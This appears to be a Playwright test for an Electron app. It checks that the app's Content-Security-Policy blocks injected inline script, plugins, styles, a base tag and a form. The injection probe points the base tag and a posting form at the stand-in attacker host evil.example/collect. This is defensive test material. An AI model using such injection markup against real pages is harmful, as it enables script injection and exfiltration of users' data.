import { rendererMetaPolicy } from '../../src/main/app/csp';
import { APP_ORIGIN } from '../../src/main/electron/app-protocol';
import { expect, test } from './support/fixtures';

/**
 * The built page carries the one CSP as a meta tag, and the browser enforces it: markup injected into the app
 * cannot run inline script, load a plugin, re-base URLs, add a stylesheet or post a form. In Electron the page
 * comes from app://preflight, never file://.
 */
/**
 * Runs in the page (a string: the node tsconfig has no DOM types). Injects what an attacker's markup would and
 * reports which CSP directives refused it, whether the inline script ran and whether the injected style applied.
 */
const INJECTION_PROBE = `(async () => {
  const seen = new Set();
  const onViolation = (e) => seen.add(e.effectiveDirective);
  document.addEventListener('securitypolicyviolation', onViolation);
  const sandbox = document.createElement('div');
  // Off-screen rather than hidden: Chromium does not load an <object> that is not rendered.
  sandbox.style.cssText = 'position:fixed;left:-10000px;top:0;width:50px;height:50px';
  document.body.append(sandbox);
  window.injected = false;
  sandbox.innerHTML = '<object data="data:text/html,plugin"></object>';
  const script = document.createElement('script');
  script.textContent = 'window.injected = true;';
  sandbox.append(script);
  const style = document.createElement('style');
  style.textContent = 'body { display: none; }';
  sandbox.append(style);
  const base = document.createElement('base');
  base.href = 'https://evil.example/';
  sandbox.append(base);
  const form = document.createElement('form');
  form.action = 'https://evil.example/collect';
  form.method = 'post';
  sandbox.append(form);
  form.submit();
  // Violation events are queued as tasks; give them a moment.
  await new Promise((resolve) => setTimeout(resolve, 500));
  document.removeEventListener('securitypolicyviolation', onViolation);
  const result = { directives: [...seen].sort(), scriptRan: window.injected === true, bodyShown: getComputedStyle(document.body).display !== 'none' };
  sandbox.remove();
  return result;
})()`;

test('the app page enforces its Content-Security-Policy', async ({ app }) => {
  const page = app.page;
  // The policy must not break the app itself: a fresh load logs no CSP refusal (inline style, socket, font…).
  const refusals: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) refusals.push(m.text());
  });
  await page.reload();
  await expect(page.locator('body')).toHaveAttribute('data-app-state', 'ready');
  await expect(page.getByTestId('tab-signature')).toBeVisible();
  expect(refusals).toEqual([]);
  if (app.kind === 'electron') expect(page.url().startsWith(`${APP_ORIGIN}/`), page.url()).toBe(true);

  const metas = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(metas).toHaveCount(1);
  expect(await metas.getAttribute('content')).toBe(rendererMetaPolicy());

  const blocked = (await page.evaluate(INJECTION_PROBE)) as { directives: string[]; scriptRan: boolean; bodyShown: boolean };
  expect(blocked.scriptRan).toBe(false);
  expect(blocked.bodyShown).toBe(true);
  expect(blocked.directives).toEqual(expect.arrayContaining(['base-uri', 'form-action', 'object-src', 'script-src-elem', 'style-src-elem']));
  // Nothing left the app.
  expect(new URL(page.url()).hostname).not.toBe('evil.example');
});
